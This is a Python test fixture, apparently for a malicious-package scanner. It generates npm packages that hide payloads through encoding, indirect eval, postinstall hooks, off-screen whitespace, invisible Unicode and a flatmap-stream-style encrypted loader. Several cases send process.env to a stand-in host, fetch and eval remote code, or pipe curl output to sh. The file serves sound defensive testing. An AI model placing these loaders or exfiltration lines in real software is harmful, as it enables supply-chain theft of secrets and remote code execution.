"""npm: decoders and loaders under other names."""

import base64
import zlib

from tests.evasions.case import HOST, JS_MARK, JS_PAYLOAD, Case, b64, package

_B64 = b64(JS_PAYLOAD)
_HEX = JS_PAYLOAD.encode().hex()
_CODES = ",".join(str(ord(c)) for c in JS_PAYLOAD)
_XOR = ",".join(str(ord(c) ^ 0x33) for c in JS_PAYLOAD)
_ZLIB = base64.b64encode(zlib.compress(JS_PAYLOAD.encode())).decode()
_REVERSED = _B64[::-1]


def _loaded(id_: str, code: str, **more: bytes | str) -> Case:
    """The code runs when the package is required."""
    return Case(
        id_,
        "npm",
        {"index.js": code, **{k.replace("__", "/").replace("_dot_", "."): v for k, v in more.items()}},
    )


def _hooked(id_: str, files: dict[str, bytes | str], command: str) -> Case:
    """The command runs at install."""
    manifest = package(scripts={"postinstall": command})
    return Case(id_, "npm", {"package.json": manifest, "index.js": "module.exports = {}\n", **files})


_FLATMAP = (
    "var r=require,t=process;function e(r){return Buffer.from(r,'hex').toString()}"
    "var n=r(e('2e2f746573742f64617461')),o=t[e(n[3])][e(n[4])];if(!o)return;"
    "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));"
    "var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,'');f.exports(n[1])"
)
_FLATMAP_DATA = "module.exports=" + str(
    [
        "75d4c87f3f69e0fa292969072c49dff4f90f44c1385d8eb60dae4cc3a229e52cf61f78b0822353b4304e323ad563bc22c98421eb6a8c1917e30277f716452ee8",
        "a" * 64,
        *(
            text.encode().hex()
            for text in (
                "crypto",
                "env",
                "npm_package_description",
                "aes256",
                "createDecipher",
                "_compile",
                "hex",
                "utf8",
            )
        ),
    ]
)

CASES: tuple[Case, ...] = (
    _loaded("comment-in-a-string", f"var g = 'src/*';\neval(Buffer.from('{_B64}', 'base64').toString())\n"),
    _loaded("indirect-eval", f"(0, eval)(Buffer.from('{_B64}', 'base64').toString())\n"),
    _loaded("function-of-hex", f"new Function('require', 'process', Buffer.from('{_HEX}', 'hex').toString())(require, process)\n"),
    _loaded("module-compile", f"const m = new module.constructor();\nm._compile(Buffer.from('{_B64}', 'base64').toString(), '')\n"),
    Case(
        "payload-in-json",
        "npm",
        {
            "index.js": "const vm = require('vm');\nvm.runInThisContext(Buffer.from(require('./locale.json').t, 'base64').toString())(require, process)\n",
            "locale.json": '{"t": "' + b64("(function(require,process){" + JS_PAYLOAD + "})") + '"}',
        },
    ),
    Case("flatmap-stream", "npm", {"index.js": _FLATMAP, "test/data.js": _FLATMAP_DATA}),
    _loaded("character-codes", f"eval(String.fromCharCode({_CODES}))\n"),
    _loaded("xor", f"eval([{_XOR}].map(c => String.fromCharCode(c ^ 51)).join(''))\n"),
    _loaded("inflated", f"eval(require('zlib').inflateSync(Buffer.from('{_ZLIB}', 'base64')).toString())\n"),
    _loaded("reversed", f"eval(Buffer.from('{_REVERSED}'.split('').reverse().join(''), 'base64').toString())\n"),
    _loaded(
        "string-array",
        "var _0x1a2b=['" + "','".join([b64("https"), b64("request"), b64(HOST + "/in"), b64("stringify"), b64("env")]) + "'];"
        "(function(a,n){while(--n){a.push(a.shift())}})(_0x1a2b,6);"
        "var _0x3c=function(i){return Buffer.from(_0x1a2b[i-0x0],'base64').toString()};"
        "require(_0x3c('0x0'))[_0x3c('0x1')](_0x3c('0x2'),{method:'POST'}).end(JSON[_0x3c('0x3')](process[_0x3c('0x4')]));" + JS_MARK,
    ),
    _loaded("global-by-name", f"globalThis['ev' + 'al'](Buffer.from('{_B64}', 'base64').toString())\n"),
    _loaded("constructor-chain", f"[]['filter']['constructor'](Buffer.from('{_B64}', 'base64').toString())()\n"),
    _loaded("fetched-then-run", f"fetch('{HOST}/p.js').then(r => r.text()).then(t => eval(t))\n"),
    _loaded(
        "fetched-by-callback",
        f"require('https').get('{HOST}/p.js', r => {{ let b = ''; r.on('data', d => b += d); r.on('end', () => new Function('require', b)(require)) }})\n",
    ),
    _loaded("error-carries-code", f"const a = require('axios');\na.get('{HOST}/api/ip').catch(e => {{ const h = new Function.constructor('require', e.response.data.cookie); h(require) }})\n"),
    _loaded("template-parts", "const p = `${'child'}_${'process'}`;\nrequire(p).exec(`${'cu'}${'rl'} -s " + HOST + "/x | sh`)\n"),
    _loaded("worker-from-text", f"const {{Worker}} = require('worker_threads');\nnew Worker(Buffer.from('{_B64}', 'base64').toString(), {{eval: true}})\n"),
    _hooked(
        "off-screen",
        {"setup.js": "const fs = require('fs');" + " " * 500 + f"eval(Buffer.from('{_B64}', 'base64').toString())\n"},
        "node setup.js",
    ),
    _hooked("invisible-letters", {"s.js": "const s = v => [...v].map(c => c.codePointAt(0) - 0xE0100);\neval(String.fromCharCode(...s(`" + "".join(chr(0xE0100 + ord(c)) for c in JS_PAYLOAD) + "`)))\n"}, "node s.js"),
)  # fmt: skip
